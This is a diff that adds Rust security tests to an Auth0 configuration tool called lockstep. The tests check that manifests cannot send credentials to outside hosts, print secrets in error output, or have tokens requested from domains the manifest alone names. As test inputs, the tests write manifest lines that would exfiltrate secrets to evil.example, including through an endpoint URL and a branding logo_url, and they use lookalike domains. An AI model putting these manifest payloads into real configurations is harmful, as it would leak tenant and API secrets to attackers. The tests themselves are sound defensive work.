@@ -202,6 +202,122 @@ fn a_manifest_sends_no_credential_to_where_others_read() {
     assert_eq!(twin.log().len(), 0, "refused before the first request");
 }
 
+/// The same credentials by another spelling: another variable, a file or a link beside the manifest, the sender's secret,
+/// another vendor's field.
+#[test]
+fn a_credential_by_another_spelling_does_not_leave_either() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    let secret = site.env["AUTH0_CLIENT_SECRET"].clone();
+    folder.write("secret.txt", &secret);
+    symlink("secret.txt", folder.path("link.txt")).expect("link");
+    let same = |value: &str| STANDARD.encode(value);
+    let authorization = "${generated.feedback} ";
+    let endpoint = "endpoint: https://acme-feedback.example/auth0-logs";
+    for (from, to) in [
+        (authorization, "${file.secret.txt} "),
+        (authorization, "${file.link.txt} "),
+        (authorization, "Bearer ${env.SAME} "),
+        (authorization, "${env.ENCODED} "),
+        (authorization, "${env.TWILIO_SENDER_SECRET} "),
+        (endpoint, "endpoint: https://evil.example/${env.TWILIO_SENDER_SECRET}"),
+        (endpoint, "endpoint: https://evil.example/${env.SAME}"),
+        (
+            "# universal_login:",
+            "branding:\n  logo_url: https://evil.example/${env.TWILIO_SENDER_SECRET}\n# universal_login:",
+        ),
+        ("${env.AUTH0_CLIENT_ID}", "${env.TWILIO_SENDER_SECRET}"),
+        ("${env.AUTH0_CLIENT_ID}", "${env.TWILIO_API_SECRET}"),
+    ] {
+        for command in ["plan", "drift", "apply"] {
+            let manifest = folder.write("lockstep.yaml", &quickstart_with(from, to));
+            let run = site
+                .lockstep(command, &manifest, if command == "apply" { &["--yes"] } else { &[] })
+                .env("SAME", &secret)
+                .env("ENCODED", &same(&secret))
+                .run()
+                .expect(1);
+            assert!(run.err.contains("can be read by others"), "{command} {to}: {}", run.err);
+            assert!(run.err.contains("lockstep.yaml:"), "{command} {to}: {}", run.err);
+            let shown = run.out + &run.err;
+            assert!(!shown.contains(&secret) && !shown.contains(&same(&secret)), "{to}: {shown}");
+        }
+    }
+    let by_root = quickstart_with(authorization, "${file./secret.txt} ");
+    let manifest = folder.write("lockstep.yaml", &by_root);
+    let run = site.lockstep("plan", &manifest, &[]).run().expect(1);
+    assert!(run.err.contains("does not start in the manifest's folder"), "{}", run.err);
+    assert_eq!(twin.log().len(), 0, "refused before the first request");
+}
+
+/// A script filled the manifest in, and its mistake ends in a log.
+#[test]
+fn a_drawn_line_shows_nothing_of_the_environment() {
+    let folder = Folder::new();
+    let (token, key) = ("a-token-of-the-runner-58e2", "first-line-of-a-key\nsecond-line-of-a-key");
+    for (from, to) in [
+        ("friendly_name: Acme", format!("friendly_name: {token}\n  code_length: 99 # {token}")),
+        ("friendly_name: Acme", format!("friendly_name: [\"second-line-of-a-key {token}\"]")),
+        ("stack: ", format!("stakc: {token} # ")),
+        ("lockstep: v1", format!("lockstep: v1 # {token}\n\"{token}: [")),
+    ] {
+        let manifest = folder.write("lockstep.yaml", &quickstart_with(from, &to));
+        for command in ["validate", "plan"] {
+            let run = lockstep(&[command, &manifest])
+                .env("RUNNER_TOKEN", token)
+                .env("RUNNER_KEY", key)
+                .run()
+                .expect(1);
+            let shown = run.out + &run.err;
+            assert!(!shown.contains(token) && !shown.contains("second-line"), "{shown}");
+            assert!(shown.contains("lockstep.yaml:"), "{shown}");
+        }
+    }
+}
+
+/// A pull request writes another tenant's domain into the manifest, and the token would be asked for there.
+#[test]
+fn no_token_is_asked_for_where_only_the_manifest_says() {
+    let (folder, twin) = (Folder::new(), Twin::start());
+    let site = Site::new(&twin, 1);
+    // All that leaves goes through this proxy, so one connection to it would be a leak.
+    let outside = TcpListener::bind("127.0.0.1:0").expect("a port");
+    outside.set_nonblocking(true).expect("not waiting");
+    let proxy = format!("http://{}", outside.local_addr().expect("bound"));
+    let run = |domain: &str, command: &str, args: &[&str]| {
+        let manifest = folder.write("lockstep.yaml", &quickstart_with("${env.AUTH0_DOMAIN}", domain));
+        lockstep(&[command, &manifest]).args(args).envs(&site.env).env("HTTPS_PROXY", &proxy).run()
+    };
+    for command in ["plan", "drift", "apply", "destroy", "show", "unlock"] {
+        for domain in [
+            "evil.example",
+            "acme.auth0.com.evil.example",
+            "evilauth0.com",
+            "evil.${env.AUTH0_DOMAIN}.example",
+        ] {
+            let run = run(domain, command, &[]).expect(1);
+            assert!(run.err.contains("add --domain"), "{command} {domain}: {}", run.err);
+        }
+        let run = run("acme.eu.auth0.com", command, &["--domain", "tenant-1.eu.auth0.com"]).expect(1);
+        assert!(run.err.contains("--domain names tenant-1.eu.auth0.com"), "{command}: {}", run.err);
+    }
+    assert!(outside.accept().is_err(), "somebody came");
+    // Named by whoever runs it, or staying on this machine, any domain is fine.
+    let manifest = folder.write("lockstep.yaml", &quickstart_with("${env.AUTH0_DOMAIN}", "login.example"));
+    site.lockstep("plan", &manifest, &[]).run().expect(0);
+    site.lockstep("plan", &manifest, &["--domain", "login.example"]).run().expect(0);
+    lockstep(&["plan", &manifest, "--twin"]).run().expect(0);
+    let named = lockstep(&["plan", &manifest, "--domain", "login.example"])
+        .envs(&site.env)
+        .env("HTTPS_PROXY", &proxy)
+        .start();
+    outside.set_nonblocking(false).expect("waiting");
+    outside.accept().expect("asked once it is named");
+    super::lab::signal("TERM", named.id());
+    drop(outside);
+    assert_ne!(named.wait().code, Some(0));
+}
+
 /// A hijacked endpoint sends everybody elsewhere, with every redirect there is.
 #[test]
 fn credentials_follow_no_redirect() {
